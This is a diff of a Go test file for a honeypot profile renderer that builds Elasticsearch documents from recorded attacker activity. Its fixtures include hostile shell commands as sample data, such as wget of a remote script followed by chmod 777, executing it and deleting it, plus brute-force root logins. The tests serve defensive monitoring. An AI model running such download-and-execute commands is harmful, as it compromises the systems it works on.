@@ -2,10 +2,13 @@ package profile
 
 import (
 	"bytes"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
+	"math/rand/v2"
 	"net/netip"
 	"os"
+	"path/filepath"
 	"slices"
 	"sort"
 	"strings"
@@ -13,7 +16,12 @@ import (
 	"time"
 
 	"dossier/correlate/event"
+	"dossier/correlate/law"
 	"dossier/correlate/state"
+	"dossier/profile/enrich"
+
+	"github.com/maxmind/mmdbwriter"
+	"github.com/maxmind/mmdbwriter/mmdbtype"
 )
 
 var (
@@ -26,6 +34,11 @@ const second = event.Time(1e6)
 
 func headOf(addr netip.Addr) Head {
 	return Head{Addr: addr, ID: addr.String(), Now: written, State: []byte("state")}
+}
+
+func networkHead() Head {
+	network := netip.MustParsePrefix("2a00:1450:4001::/48")
+	return Head{Addr: network.Addr(), Network: network, ID: network.String(), Now: written}
 }
 
 // everyEvent returns events that show everything a profile can hold.
@@ -47,11 +60,13 @@ func everyEvent() []*event.Event {
 		event.Evidence{Kind: event.Fingerprint, A: "hassh", B: "ec7378c1a92f5a8dde7e8b7a1ddf33d1"},
 		event.Evidence{Kind: event.Fingerprint, A: "ssh_client_banner", B: "SSH-2.0-Go"},
 		event.Evidence{Kind: event.KexOrder, A: "curve25519-sha256,ecdh-sha2-nistp256"})
-	add(60, "decky-02", "ssh", "auth_attempt", event.Scan,
-		event.Evidence{Kind: event.Login, A: "root", B: "plaintext", C: "toor", Digest: digest(1), Outcome: event.Failure},
-		event.Evidence{Kind: event.Session, A: "6fe3"})
+	for i := range 3 {
+		add(60+event.Time(i), "decky-02", "ssh", "auth_attempt", event.Scan,
+			event.Evidence{Kind: event.Login, A: "root", B: "plaintext", C: fmt.Sprintf("p\"\\ä]\u2028%d", i), Digest: digest(byte(i)), Outcome: event.Failure},
+			event.Evidence{Kind: event.Session, A: "6fe3"})
+	}
 	add(120, "decky-02", "ssh", "auth_attempt", event.Scan,
-		event.Evidence{Kind: event.Login, A: "root", B: "plaintext", C: "p\"\\ä]\u2028", Digest: digest(2), Outcome: event.Success})
+		event.Evidence{Kind: event.Login, A: "root", B: "plaintext", C: "toor", Digest: digest(9), Outcome: event.Success})
 	add(180, "decky-02", "ssh", "command", event.Interaction,
 		event.Evidence{Kind: event.Command, A: `cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh`})
 	add(240, "decky-01", "http", "request", event.Scan,
@@ -69,8 +84,7 @@ func everyEvent() []*event.Event {
 	add(420, "decky-02", "ssh", "file_captured", event.Interaction,
 		event.Evidence{Kind: event.Artifact, A: strings.Repeat("ab", 32), B: "http://198.51.100.7/x.sh", C: "file"},
 		event.Evidence{Kind: event.Alert, A: "ET SCAN Potential SSH Scan", B: "Attempted Information Leak", N: 2}).Large = true
-	tls := []string{"ja3", "ja3s", "ja4", "ja4s", "ja4h", "ja4_quic", "jarm"}
-	for i, kind := range tls {
+	for i, kind := range []string{"ja3", "ja3s", "ja4", "ja4s", "ja4h", "ja4_quic", "jarm"} {
 		add(480+event.Time(60*i), "decky-01", "https", "tls_client_hello", event.Scan,
 			event.Evidence{Kind: event.Fingerprint, A: kind, B: fmt.Sprintf("%s-%d", kind, i)})
 	}
@@ -79,13 +93,27 @@ func everyEvent() []*event.Event {
 	return events
 }
 
-// everySet returns the state after the events of everyEvent, and enough more
-// to make it look like a beacon.
-func everyState(t *testing.T) *state.Attacker {
-	t.Helper()
-	var s state.Attacker
-	s.Fold(new(event.Arena), "sensor-1", false, everyEvent())
-	return &s
+// beaconEvents returns events that come like a beacon, on one service and
+// with a phase of exfiltration behind the one of reconnaissance.
+func beaconEvents() []*event.Event {
+	var events []*event.Event
+	for i := range 400 {
+		ev := &event.Event{Time: morning + event.Time(i)*200*second, Addr: someone, Decky: "decky-01", Service: "https", Type: "connect", Kind: event.Scan, Phase: event.Recon}
+		if i == 399 {
+			ev.Phase = event.Exfil
+		}
+		events = append(events, ev)
+	}
+	return events
+}
+
+func folded(r *Renderer, events []*event.Event) *state.Attacker {
+	a, s := new(event.Arena), new(state.Attacker)
+	for _, ev := range events {
+		r.Annotate(a, ev)
+	}
+	s.Fold(a, "sensor-1", false, events)
+	return s
 }
 
 func renderer(t testing.TB, o Options) *Renderer {
@@ -97,8 +125,58 @@ func renderer(t testing.TB, o Options) *Renderer {
 	return r
 }
 
+// located returns a renderer that knows a place and a name for everybody.
+func located(t testing.TB, o Options) *Renderer {
+	t.Helper()
+	tree, err := mmdbwriter.New(mmdbwriter.Options{DatabaseType: "Test"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, network := range []string{"185.0.0.0/8", "2a00::/16"} {
+		n := netip.MustParsePrefix(network)
+		if err := tree.Insert(ipNet(n), mmdbtype.Map{
+			"country":                        mmdbtype.Map{"iso_code": mmdbtype.String("DE")},
+			"location":                       mmdbtype.Map{"latitude": mmdbtype.Float64(52.5), "longitude": mmdbtype.Float64(13.375)},
+			"autonomous_system_number":       mmdbtype.Uint32(60729),
+			"autonomous_system_organization": mmdbtype.String("Example"),
+		}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	path := filepath.Join(t.TempDir(), "test.mmdb")
+	f, err := os.Create(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := tree.WriteTo(f); err != nil {
+		t.Fatal(err)
+	}
+	if err := f.Close(); err != nil {
+		t.Fatal(err)
+	}
+	files, err := enrich.Open(enrich.Options{GeoIP: path, ASN: path})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(files.Close)
+	o.Files = files
+	o.Names = enrich.NewNames(enrich.NamesOptions{Resolver: oneName{}})
+	t.Cleanup(o.Names.Close)
+	o.Names.Name(someone)
+	for range 500 {
+		if o.Names.Name(someone) != "" {
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	return renderer(t, o)
+}
+
 func decode(t testing.TB, doc []byte) map[string]any {
 	t.Helper()
+	if bytes.IndexByte(doc, '\n') >= 0 {
+		t.Fatalf("not one line: %s", doc)
+	}
 	var m map[string]any
 	if err := json.Unmarshal(doc, &m); err != nil {
 		t.Fatalf("%v in\n%s", err, doc)
@@ -130,18 +208,132 @@ func leaves(k Kind, doc map[string]any) []string {
 	return names
 }
 
-func TestEveryRenderedFieldIsInTheTable(t *testing.T) {
-	s := everyState(t)
-	r := renderer(t, Options{})
-	doc := decode(t, r.AppendAttacker(nil, headOf(someone), s))
-	var known []string
-	for _, f := range Fields(Attackers) {
-		known = append(known, f.Name)
+// at returns the value of a dotted name.
+func at(doc map[string]any, name string) any {
+	var v any = doc
+	for _, part := range strings.Split(name, ".") {
+		m, _ := v.(map[string]any)
+		v = m[part]
 	}
-	for _, name := range leaves(Attackers, doc) {
-		if !slices.Contains(known, name) {
-			t.Errorf("%s is rendered but not in the table", name)
+	return v
+}
+
+// everyDocument returns documents that together show every field.
+func everyDocument(t *testing.T) map[Kind][]map[string]any {
+	r := located(t, Options{})
+	s := folded(r, everyEvent())
+	var domains []*event.Event
+	for i := range 5000 {
+		domains = append(domains, &event.Event{Time: morning + event.Time(i), Service: "smtp", Evidence: []event.Evidence{{Kind: event.Recipient, A: fmt.Sprintf("d%d.example.com", i)}}})
+	}
+	network := new(state.Attacker)
+	network.Fold(new(event.Arena), "sensor-1", true, append(beaconEvents(), domains...))
+	target := new(state.Target)
+	for _, ev := range domains[:100] {
+		ev.Decky = "decky-" + ev.Evidence[0].A
+		ev.Evidence[0].A = "mail.acme.co.uk"
+	}
+	target.Fold("sensor-1", "mail.acme.co.uk", domains[:100])
+	hour := new(state.Activity)
+	hour.Fold("sensor-1", append(everyEvent(), domains[:100]...))
+	hour.Summary.Add(event.Time(s.Events), string(r.AppendSummary(nil, headOf(someone), s)))
+	beat := &Heartbeat{
+		Sensor: "sensor-1", Version: "1.0.0", Started: written, RecordsIn: 1,
+		Reasons: []RefusalCount{{"unparsed", "bad_json", 1}}, LastError: "no route to host\n", LastErrorAt: written,
+	}
+	nh := networkHead()
+	nh.State = []byte("state")
+	documents := map[Kind][]map[string]any{
+		Attackers: {
+			decode(t, r.AppendAttacker(nil, headOf(someone), s)),
+			decode(t, r.AppendAttacker(nil, nh, network)),
+			decode(t, r.AppendAttacker(nil, headOf(someone), folded(r, beaconEvents()))),
+		},
+		Targets: {
+			decode(t, r.AppendTarget(nil, headOf(someone), "mail.acme.co.uk", target)),
+			decode(t, r.AppendTarget(nil, nh, "mail.acme.co.uk", target)),
+		},
+		Activity: {
+			decode(t, r.AppendActivity(nil, headOf(someone), morning.Hour(), hour)),
+			decode(t, r.AppendActivity(nil, nh, morning.Hour(), hour)),
+		},
+		Sensors: {decode(t, AppendSensor(nil, written, beat))},
+	}
+	for _, crossed := range r.Transitions(nil, headOf(someone), s) {
+		documents[Transitions] = append(documents[Transitions],
+			decode(t, r.AppendTransition(nil, headOf(someone), crossed, s)),
+			decode(t, r.AppendTransition(nil, nh, crossed, network)))
+	}
+	return documents
+}
+
+func TestTableHoldsExactlyWhatIsRendered(t *testing.T) {
+	for kind, documents := range everyDocument(t) {
+		rendered := map[string]bool{}
+		for _, doc := range documents {
+			for _, name := range leaves(kind, doc) {
+				rendered[name] = true
+			}
 		}
+		known := map[string]bool{}
+		for _, f := range Fields(kind) {
+			known[f.Name] = true
+			if !rendered[f.Name] {
+				t.Errorf("%s: %s is in the table but never rendered", kind, f.Name)
+			}
+			for _, doc := range documents {
+				if v := at(doc, f.Name); v != nil {
+					checkType(t, kind, f, v)
+				}
+			}
+		}
+		for name := range rendered {
+			if !known[name] {
+				t.Errorf("%s: %s is rendered but not in the table", kind, name)
+			}
+		}
+	}
+}
+
+// checkType checks that Elasticsearch can index v as the table says.
+func checkType(t *testing.T, k Kind, f Field, v any) {
+	t.Helper()
+	if list, ok := v.([]any); ok != f.List {
+		t.Errorf("%s: %s holds an array: %v, want %v", k, f.Name, ok, f.List)
+	} else if ok {
+		for _, one := range list {
+			checkType(t, k, Field{Name: f.Name, Type: f.Type}, one)
+		}
+		return
+	}
+	ok := false
+	switch f.Type {
+	case Keyword:
+		_, ok = v.(string)
+	case Long, Integer:
+		n, is := v.(float64)
+		ok = is && n == float64(int64(n))
+	case Float:
+		_, ok = v.(float64)
+	case Boolean:
+		_, ok = v.(bool)
+	case Date:
+		text, _ := v.(string)
+		_, err := time.Parse(time.RFC3339Nano, text)
+		ok = err == nil && len(text) == len("2026-01-02T03:04:05.678901Z")
+	case IP:
+		text, _ := v.(string)
+		_, err := netip.ParseAddr(text)
+		ok = err == nil
+	case Binary:
+		text, _ := v.(string)
+		_, err := base64.StdEncoding.DecodeString(text)
+		ok = err == nil
+	case GeoPoint, Object:
+		_, ok = v.(map[string]any)
+	}
+	if !ok {
+		t.Errorf("%s: %s can't be %#v", k, f.Name, v)
 	}
 }
 
@@ -153,5 +345,464 @@ func TestDocumentationIsFresh(t *testing.T) {
 	}
 	if !bytes.Equal(got, Markdown()) {
 		t.Errorf("%s is stale: run go generate ./profile", path)
+	}
+}
+
+// randomEvents returns n events of one attacker, some of them at the same
+// time, enough to make caps bite.
+func randomEvents(r *rand.Rand, n int) []*event.Event {
+	services := []string{"ssh", "telnet", "http", "smtp", "redis", ""}
+	events := make([]*event.Event, n)
+	for i := range events {
+		ev := &event.Event{
+			Time: morning + event.Time(r.IntN(n))*second/2, Addr: someone,
+			Decky: fmt.Sprintf("decky-%d", r.IntN(300)), Service: services[r.IntN(len(services))],
+			Type: "connect", Kind: event.Kind(r.IntN(3)), Phase: event.Phase(r.IntN(4)), Handshake: r.IntN(100) == 0, Large: r.IntN(50) == 0,
+		}
+		pick := func(n int) string { return fmt.Sprintf("v%d", r.IntN(n)) }
+		for range r.IntN(3) {
+			var e event.Evidence
+			switch r.IntN(12) {
+			case 0, 1, 2:
+				e = event.Evidence{Kind: event.Command, A: "wget http://198.51.100.7/" + pick(400) + strings.Repeat("; uname -a", r.IntN(30))}
+			case 3, 4, 5:
+				e = event.Evidence{Kind: event.Login, A: pick(30), B: "plaintext", C: pick(400), Outcome: event.Outcome(r.IntN(3))}
+				copy(e.Digest[:], e.C)
+			case 6:
+				e = event.Evidence{Kind: event.Fingerprint, A: []string{"ja3", "hassh", "http_useragent", "ssh_client_banner"}[r.IntN(4)], B: pick(300), Payload: []event.Field{{Key: "ja4", Value: pick(9)}}}
+			case 7:
+				e = event.Evidence{Kind: event.Artifact, A: strings.Repeat("0", 60) + fmt.Sprintf("%04d", r.IntN(200)), B: pick(50), C: "file"}
+			case 8:
+				e = event.Evidence{Kind: event.Leak, A: fmt.Sprintf("89.0.0.%d", r.IntN(256)), B: "X-Forwarded-For", C: "public"}
+			case 9:
+				e = event.Evidence{Kind: event.Stack, A: pick(4), N: int64(40 + r.IntN(30)), M: int64(r.IntN(20)), Payload: []event.Field{{Key: "window", Value: fmt.Sprint(r.IntN(9))}, {Key: "ipid_class", Value: pick(3)}}}
+			case 10:
+				e = event.Evidence{Kind: event.Alert, A: pick(90), B: "Misc Attack", N: int64(1 + r.IntN(3))}
+			case 11:
+				e = event.Evidence{Kind: event.Session, A: pick(400)}
+			}
+			ev.Evidence = append(ev.Evidence, e)
+		}
+		events[i] = ev
+	}
+	return events
+}
+
+// view returns a document without what depends on the write.
+func view(t testing.TB, doc []byte) string {
+	t.Helper()
+	i := bytes.LastIndex(doc, []byte(`,"state":"`))
+	if i < 0 {
+		t.Fatalf("no state in %s", doc)
+	}
+	return string(doc[:i])
+}
+
+// However the events are cut and ordered, and however often the state is
+// stored in between, the documents are the same to the byte.
+func TestDocumentDoesNotShowTheOrder(t *testing.T) {
+	r := renderer(t, Options{})
+	for seed := range uint64(12) {
+		random := rand.New(rand.NewPCG(seed, 5))
+		events := randomEvents(random, []int{5, 60, 1500}[seed%3])
+		a := new(event.Arena)
+		for _, ev := range events {
+			r.Annotate(a, ev)
+		}
+		var want string
+		for try := range 4 {
+			random.Shuffle(len(events), func(i, j int) { events[i], events[j] = events[j], events[i] })
+			s := new(state.Attacker)
+			for rest := events; len(rest) > 0; {
+				n := min(len(rest), 1+random.IntN(len(rest)))
+				s.Fold(a, fmt.Sprint("sensor-", n%2*0), false, rest[:n])
+				rest = rest[n:]
+				stored := s.Append(nil)
+				s = new(state.Attacker)
+				if err := s.Decode(stored); err != nil {
+					t.Fatal(err)
+				}
+			}
+			h := headOf(someone)
+			h.State = s.Append(nil)
+			got := view(t, r.AppendAttacker(nil, h, s))
+			if try == 0 {
+				want = got
+			} else if got != want {
+				t.Fatalf("seed %d, try %d:\n%s\n%s", seed, try, got, want)
+			}
+		}
+	}
+}
+
+func TestAttacker(t *testing.T) {
+	r := located(t, Options{})
+	s := folded(r, everyEvent())
+	doc := decode(t, r.AppendAttacker(nil, headOf(someone), s))
+	for name, want := range map[string]string{
+		"ip":                            `"185.220.101.4"`,
+		"first_seen":                    `"2026-01-02T08:00:00.123456Z"`,
+		"last_seen":                     `"2026-01-02T08:16:00.123456Z"`,
+		"@timestamp":                    `"2026-01-02T08:16:00.123456Z"`,
+		"updated_at":                    `"2026-01-04T12:00:00.000000Z"`,
+		"event_count":                   `18`,
+		"services":                      `["http","https","smtp","ssh"]`,
+		"services_scanned":              `["http","https"]`,
+		"services_interacted":           `["smtp","ssh"]`,
+		"deckies":                       `["decky-02","decky-01","decky-03"]`,
+		"traversal_path":                `"decky-02 → decky-01 → decky-03"`,
+		"movement.edge":                 `["decky-01 → decky-03","decky-02 → decky-01","decky-03 → decky-01"]`,
+		"credential.username":           `["root"]`,
+		"credential.pair":               `["root:p\"\\ä]` + "\u2028" + `0","root:p\"\\ä]` + "\u2028" + `1","root:p\"\\ä]` + "\u2028" + `2","root:toor"]`,
+		"login_attempts":                `4`,
+		"login_successes":               `1`,
+		"credential_count":              `4`,
+		"bounty_count":                  `18`,
+		"fingerprint.user_agent":        `["sqlmap/1.7"]`,
+		"fingerprint.ssh_client":        `["SSH-2.0-Go"]`,
+		"behavior.tools":                `["go_ssh","sqlmap"]`,
+		"behavior.os_guess":             `"linux"`,
+		"behavior.hop_distance":         `12`,
+		"behavior.tcp_fingerprint":      `{"has_sack":true,"has_timestamps":false,"ipid_class":"zero","isn_class":"random","mss":1460,"options_sig":"M,S,T,N,W","tos":0,"window":29200,"wscale":7}`,
+		"transitions":                   `{"hands_on":"2026-01-02T08:03:00.123456Z","login_success":"2026-01-02T08:02:00.123456Z","observed":"2026-01-02T08:00:00.123456Z","traversal":"2026-01-02T08:04:00.123456Z"}`,
+		"country_code":                  `"DE"`,
+		"asn":                           `60729`,
+		"as_network":                    `"185.0.0.0/8"`,
+		"ptr_record":                    `"host.example"`,
+		"spoofable":                     `false`,
+		"sensors":                       `["sensor-1"]`,
+		"related.ip":                    `["185.220.101.4","81.2.69.142"]`,
+		"related.hosts":                 `["decky-01","decky-02","decky-03","host.example"]`,
+		"threat.indicator.confidence":   `"High"`,
+		"threat.indicator.geo.location": `{"lat":52.5,"lon":13.375}`,
+		"threat.indicator.ip":           `["185.220.101.4"]`,
+		"event.kind":                    `"enrichment"`,
+		"schema_version":                `1`,
+	} {
+		got, err := json.Marshal(at(doc, name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		wanted, err := json.Marshal(json.RawMessage(want))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if unescaped(t, got) != unescaped(t, wanted) {
+			t.Errorf("%s is %s, want %s", name, got, want)
+		}
+	}
+	if payload, _ := json.Marshal(at(doc, "fingerprints")); bytes.Contains(payload, []byte("no good")) {
+		t.Errorf("a name that is none of ours became a field: %s", payload)
+	}
+}
+
+func unescaped(t *testing.T, doc []byte) string {
+	t.Helper()
+	var v any
+	if err := json.Unmarshal(doc, &v); err != nil {
+		t.Fatal(err)
+	}
+	return fmt.Sprintf("%#v", v)
+}
+
+// The UUIDs are for ever: they must never change.
+func TestUUID(t *testing.T) {
+	r := renderer(t, Options{})
+	for id, want := range map[string]string{
+		"185.220.101.4":       "a7b54897-8812-5e35-b99b-6625c7ee7be6",
+		"2a00:1450:4001::/48": "8f05aa11-13c4-5e97-b10c-cf38e518ca40",
+	} {
+		d := begin(nil)
+		r.uuid(&d, id)
+		if got := string(d.b); got != `{"uuid":"`+want+`"` {
+			t.Errorf("%s is %s, want %s", id, got, want)
+		}
+	}
+}
+
+func TestNetwork(t *testing.T) {
+	r := renderer(t, Options{})
+	s := new(state.Attacker)
+	for i, address := range []string{"2a00:1450:4001::1", "2a00:1450:4001::2", "2a00:1450:4001::1"} {
+		s.Fold(new(event.Arena), "", true, []*event.Event{{Time: morning + event.Time(i), Addr: netip.MustParseAddr(address)}})
+	}
+	doc := decode(t, r.AppendAttacker(nil, networkHead(), s))
+	if at(doc, "ip") != nil || at(doc, "network") != "2a00:1450:4001::/48" || at(doc, "threat.indicator.type") != "ipv6-addr" {
+		t.Errorf("ip %v, network %v, type %v", at(doc, "ip"), at(doc, "network"), at(doc, "threat.indicator.type"))
+	}
+	if got := fmt.Sprint(at(doc, "threat.indicator.ip")); got != "[2a00:1450:4001::1 2a00:1450:4001::2]" {
+		t.Errorf("addresses %s", got)
+	}
+}
+
+func TestSecrets(t *testing.T) {
+	for mode, c := range map[Secrets]struct{ secret, digest bool }{Plain: {true, true}, Digest: {false, true}, Hidden: {false, false}} {
+		r := renderer(t, Options{Secrets: mode})
+		doc := string(r.AppendAttacker(nil, headOf(someone), folded(r, everyEvent())))
+		digest := "09" + strings.Repeat("00", 31)
+		if got := strings.Contains(doc, "toor"); got != c.secret {
+			t.Errorf("mode %d: the secret is shown: %v", mode, got)
+		}
+		if got := strings.Contains(doc, digest); got != c.digest {
+			t.Errorf("mode %d: its digest is shown: %v", mode, got)
+		}
+		if !strings.Contains(doc, `"username":["root"]`) || !strings.Contains(doc, `"credential_count":4`) {
+			t.Errorf("mode %d: what is not secret is missing", mode)
+		}
+	}
+}
+
+// hostile returns the state of an attacker who fills everything with what is
+// longest when rendered.
+func hostile(a *event.Arena) *state.Attacker {
+	s := new(state.Attacker)
+	long := func(i, n int) string { return fmt.Sprintf("%d", i) + strings.Repeat(`"\`, n/2) }
+	for i := range 3000 {
+		ev := &event.Event{Time: morning + event.Time(i)*second, Addr: someone, Decky: long(i, 200), Service: long(i%200, 60), Type: long(i, 60), Kind: event.Interaction, Handshake: true}
+		digest := [32]byte{byte(i), byte(i >> 8)}
+		ev.Evidence = []event.Evidence{
+			{Kind: event.Command, A: long(i, event.MaxCommand-8)},
+			{Kind: event.Login, A: long(i, 100), B: "plaintext", C: long(i, 100), Digest: digest},
+			{Kind: event.Fingerprint, A: "http_useragent", B: long(i, 200), Payload: []event.Field{{Key: "value", Value: long(i, 300)}}},
+			{Kind: event.Artifact, A: strings.Repeat("a", 64), B: long(i, 300), C: "url"},
+			{Kind: event.Leak, A: "89.1.2.3", B: long(i, 100), C: "public"},
+			{Kind: event.Alert, A: long(i, 200), B: long(i, 100), N: 1},
+			{Kind: event.KexOrder, A: long(i, 500)},
+			{Kind: event.Tool, A: long(i, 30), B: "x"},
+			{Kind: event.Technique, A: fmt.Sprintf("T%d", i), B: "x"},
+			{Kind: event.Session, A: fmt.Sprint(i)},
+		}
+		s.Fold(a, fmt.Sprint("sensor-", i), false, []*event.Event{ev})
+	}
+	return s
+}
+
+func TestBudget(t *testing.T) {
+	r := renderer(t, Options{})
+	s := hostile(new(event.Arena))
+	h := headOf(someone)
+	h.State = make([]byte, stateBudget)
+	doc := r.AppendAttacker(nil, h, s)
+	t.Logf("state %d bytes, document %d bytes, view %d bytes", len(s.Append(nil)), len(doc), len(view(t, doc)))
+	if len(doc) > documentBudget {
+		t.Errorf("%d bytes, allowed are %d", len(doc), documentBudget)
+	}
+	m := decode(t, doc)
+	commands, _ := json.Marshal(m["commands"])
+	lines, _ := json.Marshal(m["command"])
+	if n := len(commands) + len(lines); n > commandBudget {
+		t.Errorf("commands take %d bytes, allowed are %d", n, commandBudget)
+	}
+	truncated := fmt.Sprint(m["truncated"])
+	for _, name := range []string{"commands", "credentials", "fingerprints", "artifacts", "ip_leaks", "deckies", "hops", "services", "alerts", "movement.dwell", "session_count", "bounty_count", "behavior.kex_order", "sensors"} {
+		if !strings.Contains(truncated, name) {
+			t.Errorf("%s was cut, but truncated is %s", name, truncated)
+		}
+	}
+	for _, name := range []string{"commands", "credentials", "fingerprints", "artifacts", "ip_leaks", "deckies", "hops", "alerts", "movement.dwell"} {
+		if list, _ := at(m, name).([]any); len(list) == 0 {
+			t.Errorf("nothing is left of %s", name)
+		}
+	}
+	// The newest command is always there.
+	list := m["commands"].([]any)
+	last := list[len(list)-1].(map[string]any)["timestamp"]
+	if want := string(appendTime(nil, s.Last)); last != want {
+		t.Errorf("the newest command shown is of %v, want %s", last, want)
+	}
+	// What the state takes must not show in the view.
+	h.State = nil
+	if other := r.AppendAttacker(nil, h, s); view(t, other) != view(t, doc) {
+		t.Error("the view depends on the size of the state")
+	}
+}
+
+// A profile within its bounds shows everything.
+func TestNothingIsCutWithoutNeed(t *testing.T) {
+	r := renderer(t, Options{})
+	s, _ := stateOf(r, busy(2000))
+	doc := decode(t, r.AppendAttacker(nil, headOf(someone), s))
+	for name, want := range map[string]int{"commands": 200, "credentials": 200, "deckies": 40} {
+		if list, _ := at(doc, name).([]any); len(list) != want {
+			t.Errorf("%s has %d elements, want %d", name, len(list), want)
+		}
+	}
+}
+
+func TestTransitions(t *testing.T) {
+	r := renderer(t, Options{})
+	s := folded(r, everyEvent())
+	var got []string
+	for _, crossed := range r.Transitions(nil, headOf(someone), s) {
+		got = append(got, crossed.Action+" "+crossed.Value+" "+string(appendTime(nil, crossed.Time))[11:19])
+	}
+	want := []string{
+		"observed  08:00:00", "traversal  08:04:00", "login_success  08:02:00", "hands_on  08:03:00",
+		"class slow_scan 08:16:00", "risk Low 08:16:00", "risk Moderate 08:16:00", "risk High 08:16:00",
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("got  %q\nwant %q", got, want)
+	}
+	// Nobody is there whom only our own prober saw.
+	probed := new(state.Attacker)
+	probed.Fold(new(event.Arena), "", false, []*event.Event{{Time: morning, Role: event.Prober, Evidence: []event.Evidence{{Kind: event.Fingerprint, A: "jarm", B: "x"}}}})
+	if got := r.Transitions(nil, headOf(someone), probed); len(got) != 0 {
+		t.Errorf("our own probe crossed %v", got)
+	}
+	doc := decode(t, r.AppendAttacker(nil, headOf(someone), probed))
+	if at(doc, "event_count") != 0.0 || at(doc, "first_seen") != nil || fmt.Sprint(at(doc, "fingerprint.jarm")) != "[x]" {
+		t.Errorf("our own probe counts: %v", doc)
+	}
+}
+
+func TestHandsOn(t *testing.T) {
+	login := func(after event.Time, outcome event.Outcome) *event.Event {
+		return &event.Event{Time: morning + after, Evidence: []event.Evidence{{Kind: event.Login, A: "root", Outcome: outcome}}}
+	}
+	command := func(after event.Time) *event.Event {
+		return &event.Event{Time: morning + after, Evidence: []event.Evidence{{Kind: event.Command, A: "id"}}}
+	}
+	for name, c := range map[string]struct {
+		events []*event.Event
+		want   event.Time
+	}{
+		"no command":                {[]*event.Event{login(1, event.Success)}, event.Never},
+		"no success":                {[]*event.Event{login(1, event.Failure), command(2)}, event.Never},
+		"commands before only":      {[]*event.Event{command(1), login(2, event.Success)}, event.Never},
+		"at once":                   {[]*event.Event{login(1, event.Success), command(1)}, morning + 1},
+		"first command after":       {[]*event.Event{command(5), login(1, event.Success), command(9)}, morning + 5},
+		"commands before and after": {[]*event.Event{command(1), login(3, event.Success), command(9)}, morning + 3},
+	} {
+		s := new(state.Attacker)
+		s.Fold(new(event.Arena), "", false, c.events)
+		if got := handsOn(s); got != c.want {
+			t.Errorf("%s: %d, want %d", name, got-morning, c.want-morning)
+		}
+	}
+}
+
+func TestTraversedWhereHopsAreFull(t *testing.T) {
+	s := new(state.Attacker)
+	for i := range 2 * state.LimitHops {
+		s.Fold(new(event.Arena), "", false, []*event.Event{{Time: morning + event.Time(i), Decky: "decky-01", Service: fmt.Sprint(i)}})
+	}
+	if got := traversed(s); got != event.Never {
+		t.Errorf("one decky is no traversal, but it was at %d", got)
+	}
+	s.Fold(new(event.Arena), "", false, []*event.Event{{Time: morning + 5000, Decky: "decky-02"}, {Time: morning + 6000, Decky: "decky-03"}})
+	if got := traversed(s); got != morning+5000 {
+		t.Errorf("at %d, want 5000", got-morning)
+	}
+}
+
+// Attackers that bring the same share keys; others don't.
+func TestCampaigns(t *testing.T) {
+	r := renderer(t, Options{})
+	attacker := func(service, hassh string, passwords []string, commands ...string) *state.Attacker {
+		ev := &event.Event{Time: morning, Service: service, Decky: service, Evidence: []event.Evidence{{Kind: event.Fingerprint, A: "hassh", B: hassh}}}
+		for _, p := range passwords {
+			e := event.Evidence{Kind: event.Login, A: "root", B: "plaintext", C: p}
+			copy(e.Digest[:], p)
+			ev.Evidence = append(ev.Evidence, e)
+		}
+		events := []*event.Event{ev}
+		for i, c := range commands {
+			events = append(events, &event.Event{Time: morning + event.Time(i), Service: service, Evidence: []event.Evidence{{Kind: event.Command, A: c}}})
+		}
+		s := new(state.Attacker)
+		s.Fold(new(event.Arena), "", false, events)
+		return s
+	}
+	keys := func(s *state.Attacker) map[string]bool {
+		list, _ := at(decode(t, r.AppendAttacker(nil, headOf(someone), s)), "campaign.keys").([]any)
+		set := map[string]bool{}
+		for _, k := range list {
+			set[k.(string)] = true
+		}
+		return set
+	}
+	shared := func(a, b map[string]bool) string {
+		var kinds []string
+		for k := range a {
+			if b[k] {
+				kind, _, _ := strings.Cut(k, ":")
+				kinds = append(kinds, kind)
+			}
+		}
+		slices.Sort(kinds)
+		return strings.Join(kinds, " ")
+	}
+	list := []string{"toor", "admin", "123456"}
+	one := keys(attacker("ssh", "h1", list, "cd /tmp; wget http://a/x1", "chmod 777 x1; ./x1"))
+	for name, c := range map[string]struct {
+		s    *state.Attacker
+		want string
+	}{
+		"the same elsewhere": {attacker("telnet", "h1", []string{"123456", "toor", "admin"}, "cd /tmp; wget http://b/y2", "chmod 777 y2; ./y2"), "credentials toolchain"},
+		"another client":     {attacker("ssh", "h2", list, "cd /tmp; wget http://a/x1", "chmod 777 x1; ./x1"), "credentials"},
+		"another order":      {attacker("ssh", "h1", list, "wget http://a/x1; cd /tmp", "chmod 777 x1; ./x1"), "credentials"},
+		"one password more":  {attacker("ssh", "h1", append(list, "x"), "cd /tmp; wget http://a/x1", "chmod 777 x1; ./x1"), "toolchain"},
+		"nothing in common":  {attacker("ssh", "h3", []string{"a", "b", "c"}, "uname", "id", "w"), ""},
+		"too little to tell": {attacker("ssh", "h1", list[:2], "uname -a"), ""},
+	} {
+		if got := shared(one, keys(c.s)); got != c.want {
+			t.Errorf("%s: shared are %q, want %q", name, got, c.want)
+		}
+	}
+	if len(keys(attacker("ssh", "h1", list[:2], "uname -a"))) != 0 {
+		t.Error("two passwords and a command make a campaign")
+	}
+	file := func(sha string) *state.Attacker {
+		s := new(state.Attacker)
+		s.Fold(new(event.Arena), "", false, []*event.Event{{Time: morning, Evidence: []event.Evidence{{Kind: event.Artifact, A: sha, C: "file"}}}})
+		return s
+	}
+	if got := shared(keys(file("ab")), keys(file("ab"))); got != "payload" {
+		t.Errorf("the same file: %q", got)
+	}
+	if got := shared(keys(file("ab")), keys(file("cd"))); got != "" {
+		t.Errorf("another file: %q", got)
+	}
+}
+
+func TestTarget(t *testing.T) {
+	r := renderer(t, Options{})
+	s := new(state.Target)
+	s.Fold("sensor-1", "mail.acme.co.uk", []*event.Event{
+		{Time: morning, Service: "smtp_relay", Decky: "decky-06", Evidence: []event.Evidence{{Kind: event.Recipient, A: "mail.acme.co.uk", Outcome: event.Success}, {Kind: event.Recipient, A: "mail.acme.co.uk", Outcome: event.Failure}, {Kind: event.Message, A: "mail.acme.co.uk"}}},
+	})
